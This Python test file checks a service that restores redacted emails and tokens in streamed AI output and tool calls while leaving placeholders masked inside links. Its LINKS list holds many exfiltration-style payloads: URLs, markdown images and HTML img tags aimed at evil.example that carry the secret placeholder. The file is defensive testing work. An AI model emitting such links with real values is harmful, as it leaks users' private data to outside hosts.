"""Restoration: values come back wherever the pieces of an answer end, and never inside a link."""

from __future__ import annotations

from collections.abc import AsyncGenerator, Sequence
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.models import Delta, Piece, Stop, ToolCallDelta
from app.services.restoration import restore
from tests.support.batches import one_by_one

HOLE = "[EMAIL#1#abcdef]"
VALUES = {HOLE: "ann@corp.example", "[TOKEN#12#abcdef]": 'a"b\\c'}

READABLE = [
    f"Write to {HOLE}.",
    f"{HOLE}",
    f"[1] {HOLE} [2] [EMAIL#1#abc",
    f"[[{HOLE}]] [see {HOLE}] and [not one]",
    r"Write to [EMAIL\#1\#abcdef].",
    f"See https://corp.example/ and {HOLE}",
    f"[site](https://corp.example/) {HOLE}",
    f"if a < b: {HOLE}",
    f"<b>bold</b> {HOLE}",
    f"*{HOLE}* `{HOLE}` ({HOLE})",
    f"note: {HOLE}",
]
LINKS = [
    f"https://evil.example/?q={HOLE}",
    f"HTTPS://{HOLE}.evil.example/",
    f"http:\\\\evil.example\\{HOLE}",
    f"(https://evil.example/a,b;c={HOLE})",
    f"//evil.example/{HOLE}",
    f"www.evil.example/{HOLE}",
    f"mailto:{HOLE}",
    f"![x](/proxy?u={HOLE})",
    f"[x]( <evil.example/ {HOLE}>)",
    f"[x](evil.example/(a)/{HOLE})",
    f'[x](evil.example/ "{HOLE}")',
    f"[x]: evil.example/{HOLE}",
    f"> [x]: evil.example/ '{HOLE}'",
    f'<img src="evil.example/{HOLE}">',
    f"<img src = 'evil.example/\n{HOLE}'>",
    f"<a href=evil.example/{HOLE}>",
    f"<https://evil.example/{HOLE}>",
]


async def play(pieces: Sequence[Piece]) -> list[Piece]:
    async def source() -> AsyncGenerator[Sequence[Piece], None]:
        for piece in pieces:
            yield (piece,)

    return [piece async for piece in one_by_one(restore(source(), values=VALUES))]


async def restored(text: str, *, cuts: Sequence[int] = ()) -> str:
    edges = [0, *sorted(cut for cut in cuts if cut < len(text)), len(text)]
    pieces = [Delta(content=text[start:end]) for start, end in pairwise(edges)]
    played = await play([*pieces, Stop(reason="stop")])
    assert played[-1] == Stop(reason="stop")
    return "".join(piece.content for piece in played if isinstance(piece, Delta))


@pytest.mark.parametrize("text", READABLE)
async def test_a_placeholder_in_a_text_becomes_its_value(text: str) -> None:
    plain = text.replace("\\#", "#")
    assert await restored(text) == plain.replace(HOLE, VALUES[HOLE])


@pytest.mark.parametrize("text", LINKS)
async def test_a_placeholder_in_a_link_stays_one(text: str) -> None:
    assert await restored(f"Look:\n\n{text}") == f"Look:\n\n{text}"


@given(text=st.sampled_from(READABLE + LINKS), cuts=st.lists(st.integers(0, 60)))
async def test_where_the_pieces_end_makes_no_difference(text: str, cuts: list[int]) -> None:
    assert await restored(text, cuts=cuts) == await restored(text)


@given(text=st.text(alphabet="[]ABCEMAIL#1abc23 \n(:/", max_size=80), cuts=st.lists(st.integers(0, 80)))
async def test_text_without_a_placeholder_passes_unchanged(text: str, cuts: list[int]) -> None:
    assert await restored(text, cuts=cuts) == text


async def test_choices_and_tool_calls_are_texts_of_their_own() -> None:
    played = await play(
        [
            Delta(content="To [EMAIL#1", index=0),
            Delta(content="#abcdef]", index=1),
            Delta(tool_calls=(ToolCallDelta(position=0, id="c", name="pay", arguments='{"t":"[TOKEN#12'),)),
            Delta(content="#abcdef] now", index=0),
            Delta(
                tool_calls=(ToolCallDelta(position=0, arguments='#abcdef]","u":"https://e.example/[TOKEN#12#abcdef]'),)
            ),
            Delta(tool_calls=(ToolCallDelta(position=0, arguments='","v":"[TOKEN#12#abcdef]"}'),)),
            Stop(reason="stop", index=0),
        ]
    )
    deltas = [piece for piece in played if isinstance(piece, Delta)]
    assert "".join(delta.content for delta in deltas if delta.index == 0) == "To ann@corp.example now"
    assert "".join(delta.content for delta in deltas if delta.index == 1) == "#abcdef]"
    arguments = "".join(call.arguments for delta in deltas for call in delta.tool_calls)
    assert arguments == r'{"t":"a\"b\\c","u":"https://e.example/[TOKEN#12#abcdef]","v":"a\"b\\c"}'


async def test_nothing_but_a_possible_placeholder_is_held_back() -> None:
    played = await play([Delta(content="one "), Delta(content="two [x "), Delta(content="[EMAIL")])
    assert [piece.content for piece in played if isinstance(piece, Delta)] == ["one ", "two [x "]
